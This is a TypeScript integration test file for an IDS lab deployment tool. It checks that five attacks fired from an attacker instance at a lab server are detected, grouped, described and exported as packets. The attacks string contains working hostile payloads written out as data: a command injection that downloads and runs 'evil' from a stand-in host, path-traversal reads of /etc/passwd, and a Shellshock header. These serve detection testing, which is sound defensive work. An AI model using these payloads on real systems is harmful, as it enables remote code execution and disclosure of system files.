import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { afterAll, beforeAll, expect, test } from 'vitest';
import type { Threat } from '#control/threats/threat.ts';
import { eventually, exampleSite, startDeployment, type TestDeployment } from '../deployment.ts';

let lab: TestDeployment;

beforeAll(async () => {
  lab = await startDeployment();
  await lab.apply(exampleSite('cloud-ids'));
  // Asked on the server itself: fetching the test file over the network would be the first threat already.
  await eventually(
    () => lab.inside('server', 'test', '-s', '/var/www/html/eicar.file'),
    ({ code }) => code === 0,
    60,
  );
}, 600_000);

afterAll(async () => {
  await lab?.remove();
  expect(lab?.leftovers()).toEqual([]);
}, 120_000);

/** The document's own five commands, letter for letter, as a person pastes them into the attacker's shell. */
const attacks = `
curl "http://192.168.10.20/weblogin.cgi?username=admin';cd /tmp;wget http://123.123.123.123/evil;sh evil;rm evil"
curl http://192.168.10.20/?item=../../../../WINNT/win.ini
curl http://192.168.10.20/eicar.file
curl http://192.168.10.20/cgi-bin/../../../..//bin/cat%20/etc/passwd
curl -H 'User-Agent: () { :; }; 123.123.123.123:9999' http://192.168.10.20/cgi-bin/test-critical
exit
`;

const listed = async (...flags: string[]): Promise<Threat[]> =>
  JSON.parse((await lab.vauban('threats', 'list', '-o', 'json', ...flags)).stdout) as Threat[];

/** What the document has people do on the server, through the tunnel. */
const preparations = `
sudo systemctl status nginx
cd /var/www/html/
sudo touch prepared.file
echo 'a harmless stand-in' | sudo tee prepared.file
exit
`;

test('the server is prepared over ssh through the identity-aware tunnel, as the document has it', async () => {
  const folder = mkdtempSync(`${tmpdir()}/vauban-cloud-ids-`);
  process.env['XDG_CONFIG_HOME'] = folder;
  try {
    const { code, stdout } = await lab.vaubanWith(preparations, 'ssh', 'server', '--tunnel', '--user', 'student');
    expect(code).toBe(0);
    expect(stdout).toContain('Active: active (running)');
    expect((await lab.inside('server', 'cat', '/var/www/html/prepared.file')).stdout).toBe('a harmless stand-in\n');
  } finally {
    delete process.env['XDG_CONFIG_HOME'];
    rmSync(folder, { recursive: true, force: true });
  }
});

test('the five attacks of the document are the five threats that the command line lists', async () => {
  const since = new Date().toISOString();
  await lab.vaubanWith(attacks, 'ssh', 'attacker');
  const seen = await eventually(
    () => listed('--from', since),
    (threats) => threats.length >= 5,
  );
  expect(seen.map((it) => it.severity).toSorted()).toEqual(['CRITICAL', 'HIGH', 'LOW', 'MEDIUM', 'MEDIUM']);
  const worst = seen.find((it) => it.severity === 'CRITICAL');
  expect(worst).toMatchObject({
    name: 'Bash Remote Code Execution Vulnerability',
    source: { address: '192.168.10.10', instance: 'attacker' },
    destination: { address: '192.168.10.20', port: 80, instance: 'server' },
    network: 'cloud-ids',
    ipProtocol: 'tcp',
    application: 'web-browsing',
    direction: 'client-to-server',
    uriOrFilename: 'test-critical',
  });
});

test('each threat is seen once at the sender and once at the receiver when copies are not folded', async () => {
  const folded = await listed();
  const both = await listed('--no-fold');
  expect(both.length).toBe(folded.length * 2);
  const pair = both.filter((it) => it.threatId === '36729').slice(0, 2);
  expect(new Set(pair.map((it) => it.sessionId)).size).toBe(2);
  expect(pair.map((it) => it.seenAt).toSorted()).toEqual(['received', 'sent']);
});

test('a threat is described with its payload, and its session can be had as packets', async () => {
  const [threat] = (await listed('--severity', 'critical')).slice(0, 1);
  const text = await lab.vauban('threats', 'describe', threat?.id ?? '');
  expect(text.stdout).toContain('() { :; }');
  const file = `${lab.deployment.run}/session.pcap`;
  const pcap = await eventually(
    () => lab.vauban('threats', 'describe', threat?.id ?? '', '--pcap', file),
    ({ code }) => code === 0,
  );
  expect(pcap.stdout).toMatch(/Wrote \d{3,} bytes/);
});

test('the private network keeps to its firewall: the attacker is not reachable, the server on port 80 only', async () => {
  expect((await lab.inside('server', 'ping', '-c', '1', '-W', '1', '192.168.10.10')).code).not.toBe(0);
  expect((await lab.inside('attacker', 'ping', '-c', '1', '-W', '1', '192.168.10.20')).code).toBe(0);
  expect((await lab.inside('attacker', 'curl', '-s', '-m', '1', 'http://192.168.10.20:8080/')).code).toBe(28);
});

test('a second apply of the same site changes nothing', async () => {
  const plan = await lab.vauban('plan', 'examples/cloud-ids');
  expect(plan.stdout.trim()).toBe('Nothing would change.');
  expect(plan.code).toBe(0);
});
